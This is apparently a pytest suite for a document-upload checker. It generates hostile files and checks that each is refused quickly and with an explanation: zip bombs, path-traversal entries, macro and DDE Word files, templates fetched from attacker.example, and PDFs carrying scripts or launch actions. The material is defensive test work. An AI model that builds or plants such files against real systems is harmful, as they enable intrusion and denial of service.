"""Hostile files, made on the spot: each is refused in words, none costs much."""

import io
import subprocess
import sys
import time
import unicodedata
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from contracting.documents.checking.findings import Limits
from contracting.documents.checking.malware import ForeignScanner, Scanner
from contracting.documents.checking.names import MAX_NAME, clean_name
from contracting.documents.checking.upload import check_upload
from tests.architecture.tree import ROOT
from tests.documents import files
from tests.documents.papers import printed

GOOD: dict[str, Callable[[], bytes]] = {
    "plan.pdf": files.pdf,
    "plan.docx": files.office,
    "prices.xlsx": lambda: files.office(files.SHEET),
    "talk.pptx": lambda: files.office(files.SLIDES),
    "prices.csv": lambda: "class,price\r\ninput,2.50\r\n".encode("utf-16"),
    "plan.txt": lambda: "Zürich: 2,50 €\n".encode("cp1252"),
    "site.png": files.png,
    "site.jpg": files.jpg,
    "site.JPEG": files.jpg,
    "all.zip": lambda: files.archive(
        {
            "a/plan.pdf": files.pdf(),
            "a/plan.docx": files.office(),
            "__MACOSX/a/._plan.pdf": b"\x00\x05\x16\x07\x00\x02",
        }
    ),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_an_offer_is_made_of_is_taken_whole(name):
    content = GOOD[name]()

    verdict = check_upload(name, content)

    assert verdict.words == ""
    assert verdict.is_fit
    assert verdict.content == content
    assert verdict.kind in {name.rpartition(".")[2].lower(), "jpg"}
    assert not verdict.is_scanned


HOSTILE = {
    "bomb": ("plan.zip", lambda: files.bomb(60), "unpacks_too_far"),
    "nested bomb": (
        "plan.zip",
        lambda: files.archive({"inner.zip": files.bomb(60)}),
        "unpacks_too_far",
    ),
    "overlaps": ("plan.zip", files.overlapping_bomb, "archive_overlaps"),
    "three deep": (
        "plan.zip",
        lambda: files.nested(files.archive({"plan.txt": b"plan"}), 2),
        "too_deep",
    ),
    "like a quine": ("plan.zip", files.like_a_quine, "too_deep"),
    "many": (
        "plan.zip",
        lambda: files.archive({f"{n}.txt": b"n" for n in range(1001)}),
        "too_many_entries",
    ),
    "large": (
        "plan.zip",
        lambda: files.archive({"a.txt": b"n" * 51 * 2**20}, method=0),
        "too_large",
    ),
    "link": ("plan.zip", files.archive_with_link, "archive_link"),
    "up": (
        "plan.zip",
        lambda: files.archive({"../../etc/cron.txt": b"*"}),
        "archive_path",
    ),
    "root": ("plan.zip", lambda: files.archive({"/etc/a.txt": b"*"}), "archive_path"),
    "drive": ("plan.zip", lambda: files.archive({"C:\\a.txt": b"*"}), "archive_path"),
    "password": ("plan.zip", files.encrypted_archive, "archive_encrypted"),
    "program in it": (
        "plan.zip",
        lambda: files.archive({"run.exe": b"MZ\x90\x00"}),
        "kind_not_taken",
    ),
    "program by another name": (
        "plan.zip",
        lambda: files.archive({"plan.txt": b"MZ\x90\x00\x03"}),
        "kind_differs",
    ),
    "no file in it": ("plan.zip", lambda: files.archive({}), "archive_damaged"),
    "bytes in front": (
        "plan.docx",
        lambda: b"PK\x03\x04" + files.office(),
        "archive_hides_bytes",
    ),
    "gif and zip": ("a.png", lambda: b"GIF89a" + files.office(), "kind_differs"),
    "pdf and zip": (
        "a.pdf",
        lambda: files.pdf() + files.archive({"a.txt": b"a"}),
        "two_kinds",
    ),
    "png and zip": (
        "a.png",
        lambda: files.png() + files.archive({"a.txt": b"a"}),
        "two_kinds",
    ),
    "pdf called text": ("a.txt", files.pdf, "kind_differs"),
    "zip called word": (
        "a.docx",
        lambda: files.archive({"a.txt": b"a"}),
        "kind_differs",
    ),
    "excel called word": (
        "a.docx",
        lambda: files.office(files.SHEET),
        "kind_differs",
    ),
    "macros by type": (
        "plan.docx",
        lambda: files.office(files.MACROS),
        "office_macros",
    ),
    "macros": (
        "plan.docx",
        lambda: files.office(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "office_macros",
    ),
    "object": (
        "plan.docx",
        lambda: files.office(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\0"}),
        "office_objects",
    ),
    "macros in an embedded sheet": (
        "plan.docx",
        lambda: files.office(
            more={"word/embeddings/Sheet1.xlsx": files.office(files.MACROS)}
        ),
        "office_macros",
    ),
    "template from afar": (
        "plan.docx",
        lambda: files.office(
            links=files.link("attachedTemplate", "http://attacker.example/a.dotm")
        ),
        "office_external",
    ),
    "link to a share": (
        "plan.docx",
        lambda: files.office(
            links=files.link("hyperlink", "file://///attacker.example/a")
        ),
        "office_external",
    ),
    "entities": (
        "plan.docx",
        lambda: files.office(body=b"<!DOCTYPE d [<!ENTITY a 'b'>]><d>&a;</d>"),
        "office_entities",
    ),
    "entities in relationships": (
        "plan.docx",
        lambda: files.office(
            more={
                "word/_rels/a.rels": b"<!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>",
            }
        ),
        "office_entities",
    ),
    "field that starts a program": (
        "plan.docx",
        lambda: files.office(
            body=b'<d><w:instrText x="y"> DDEAUTO c "x"</w:instrText></d>'
        ),
        "office_dde",
    ),
    "picture flood in Word": (
        "plan.docx",
        lambda: files.office(
            more={"word/media/a.png": files.png(60_000, 60_000, body=False)}
        ),
        "too_many_pixels",
    ),
    "script": ("plan.pdf", files.pdf_with_script, "pdf_javascript"),
    "launch": ("plan.pdf", files.pdf_that_starts_a_program, "pdf_launch"),
    "attachment": ("plan.pdf", files.pdf_with_attachment, "pdf_attachment"),
    "dynamic form": ("plan.pdf", files.pdf_with_dynamic_form, "pdf_xfa"),
    "pdf password": ("a.pdf", lambda: files.encrypted_pdf("secret"), "pdf_encrypted"),
    "pdf restricted": ("a.pdf", lambda: files.encrypted_pdf(""), "pdf_encrypted"),
    "pdf cut off": ("a.pdf", lambda: files.pdf()[:-60], "pdf_damaged"),
    "pdf bomb": ("a.pdf", files.heavy_pdf, "pdf_"),
    "script in an archive": (
        "plan.zip",
        lambda: files.archive({"a/plan.pdf": files.pdf_with_script()}),
        "pdf_javascript",
    ),
    "pixels": (
        "a.png",
        lambda: files.png(60_000, 60_000, body=False),
        "too_many_pixels",
    ),
    "png cut off": ("a.png", lambda: files.png()[:-13], "image_damaged"),
    "jpg cut off": ("a.jpg", lambda: files.jpg()[:-40], "image_damaged"),
    "zip cut off": ("a.zip", lambda: files.office()[:-9], "archive_damaged"),
    "old office": (
        "a.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99),
        "kind_differs",
    ),
    "nothing": ("a.pdf", lambda: b"", "empty"),
    "no suffix": ("plan", lambda: b"plan", "kind_not_taken"),
    "suffix behind NUL": ("plan.pdf\0.exe", files.pdf, "kind_not_taken"),
    "too large": ("a.txt", lambda: b"a" * (20 * 2**20 + 1), "too_large"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_and_said_why(what):
    name, make, code = HOSTILE[what]
    content = make()
    began = time.process_time()

    verdict = check_upload(name, content)

    (finding,) = verdict.findings
    assert finding.code.startswith(code), verdict.words
    assert not verdict.is_fit
    assert verdict.content == b""
    assert finding.file.startswith(clean_name(name))
    assert all((finding.found, finding.matters, finding.remedy))
    assert time.process_time() - began < 10


def test_what_lies_in_an_archive_is_named_with_its_place():
    content = files.archive({"a/plan.pdf": files.pdf_with_script()})

    verdict = check_upload("all.zip", content)

    assert verdict.words.startswith("all.zip > a/plan.pdf: It has a script.")


def test_a_paper_of_the_site_with_its_content_as_json_is_taken_again():
    assert check_upload("order.pdf", printed("receipt")).words == ""


@pytest.mark.parametrize(
    ("content", "relationship"), [(b"{}", "/Source"), (b"MZ no json", "/Data")]
)
def test_any_other_attachment_is_refused(content, relationship):
    made = files.pdf_with_attachment(content, relationship)

    assert check_upload("order.pdf", made).findings[0].code == "pdf_attachment"


def test_a_link_that_somebody_clicks_is_no_part_from_elsewhere():
    content = files.office(links=files.link("hyperlink", "https://www.acquisition.gov"))

    assert check_upload("plan.docx", content).words == ""


def test_only_the_kinds_of_the_place_are_taken():
    verdict = check_upload("plan.pdf", files.pdf(), allowed=("csv", "txt"))

    assert "Taken here: .csv, .txt." in verdict.words


def test_reading_stops_at_the_limit():
    # Given a sender who never ends
    sent = 0

    def endless():
        nonlocal sent
        while True:
            sent += 65_536
            yield b"a" * 65_536

    # Then no more is read than is kept
    assert not check_upload("a.txt", endless()).is_fit
    assert sent <= Limits().file_bytes + 65_536


class Endless(io.RawIOBase):
    read_bytes = 0

    def read(self, size=-1):
        self.read_bytes += size
        return b"a" * size


def test_reading_a_file_stops_at_the_limit():
    file = Endless()

    assert not check_upload("a.txt", file).is_fit
    assert file.read_bytes <= Limits().file_bytes + 65_536


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("a/b\\plan.pdf", "plan.pdf"),
        ("plan\u202efdp.exe", "planfdp.exe"),
        ("pl\x00an\r\n.pdf", "plan.pdf"),
        ("Zu\u0308rich.pdf", unicodedata.normalize("NFC", "Zu\u0308rich.pdf")),
        ("x" * 300 + ".pdf", "x" * (MAX_NAME - 4) + ".pdf"),
        ("x." + "y" * 300, ("x." + "y" * 300)[:MAX_NAME]),
        ("", ""),
    ],
)
def test_a_name_is_cleaned_before_anybody_sees_it(name, shown):
    assert clean_name(name) == shown


def test_the_scanner_is_asked_over_a_port_and_over_a_socket(tmp_path):
    for place in (None, tmp_path / "clamd"):
        with files.clamd(place) as url:
            scanner = Scanner(url)
            good = check_upload("plan.pdf", files.pdf(), scanner=scanner)
            bad = check_upload("plan.txt", files.EICAR, scanner=scanner)

        assert good.is_fit
        assert good.is_scanned
        assert [finding.code for finding in bad.findings] == ["malware"]
        assert "found Eicar-Test-Signature" in bad.words


@pytest.mark.parametrize(
    "says", [b"", b"INSTREAM size limit exceeded. ERROR\0", b"\xff" * 9_999]
)
def test_a_scanner_that_cannot_tell_lets_nothing_pass(says):
    with files.clamd(says=says) as url:
        verdict = check_upload("plan.txt", b"plan", scanner=Scanner(url))

    assert [finding.code for finding in verdict.findings] == ["not_scanned"]


def test_a_scanner_that_is_not_there_lets_nothing_pass(tmp_path):
    for url in (f"unix:{tmp_path}/none", "tcp://127.0.0.1:1"):
        verdict = check_upload("plan.txt", b"plan", scanner=Scanner(url))

        assert [finding.code for finding in verdict.findings] == ["not_scanned"]
        assert "try again in a minute" in verdict.words


@pytest.mark.parametrize(
    "url", ["tcp://192.0.2.7:3310", "http://127.0.0.1", "unix:clamd", "tcp://127.0.0.1"]
)
def test_no_offer_is_sent_to_another_machine(url):
    with pytest.raises(ForeignScanner):
        Scanner(url)


SEEDS = [
    ("plan.docx", files.office()),
    ("all.zip", files.archive({"a.txt": b"a" * 99, "b/c.csv": b"1,2\n" * 99})),
    ("a.png", files.png()),
    ("a.jpg", files.jpg()),
    ("a.txt", b"a plan\n"),
]


@settings(max_examples=200, deadline=10_000, suppress_health_check=list(HealthCheck))
@given(
    seed=st.sampled_from(SEEDS),
    edits=st.lists(st.tuples(st.integers(0), st.binary(max_size=6)), max_size=8),
    cut=st.integers(0, 400),
    name=st.text(max_size=20),
)
def test_no_mutation_of_a_file_is_more_than_refused(seed, edits, cut, name):
    plain, content = seed
    mutant = bytearray(content)
    for at, change in edits:
        at %= len(mutant) + 1
        mutant[at : at + len(change)] = change
    mutant = mutant[: max(0, len(mutant) - cut)] if cut > 200 else mutant

    for called in (plain, f"{name}.{plain.rpartition('.')[2]}", name):
        verdict = check_upload(called, bytes(mutant))

        assert verdict.is_fit is (verdict.words == "")
        assert len(verdict.name) <= MAX_NAME


def test_mutations_of_a_pdf_are_no_more_than_refused():
    content, step = files.pdf_with_attachment(), 211
    for at in range(0, len(content), step):
        mutant = content[:at] + b"\xff<<" + content[at + 3 :]
        assert check_upload("a.pdf", mutant).findings


MEASURE = """
import resource, sys, time
from contracting.documents.checking.upload import check_upload
from tests.documents import files
content = getattr(files, sys.argv[1])()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
began = time.process_time()
verdict = check_upload(sys.argv[2], content)
used = resource.getrusage(resource.RUSAGE_CHILDREN)
spent = time.process_time() - began + used.ru_utime + used.ru_stime
own = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
child = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
code = verdict.findings[0].code
print(code, len(content), round(spent, 2), own // 1024, child // 1024)
"""


@pytest.mark.parametrize(
    ("make", "name", "code"),
    [
        ("bomb", "plan.zip", "unpacks_too_far"),
        ("overlapping_bomb", "plan.zip", "archive_overlaps"),
        ("like_a_quine", "plan.zip", "too_deep"),
        ("heavy_pdf", "plan.pdf", "pdf_"),
    ],
)
def test_a_bomb_costs_little_time_and_memory(make, name, code):
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, make, name],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    )

    found, _size, spent, own, child = done.stdout.split()
    assert found.startswith(code)
    assert float(spent) < 15, "seconds of computing"
    assert int(own) < 150, "megabytes more in the process that takes the request"
    assert int(child) < 600, "megabytes in the process that reads PDF"
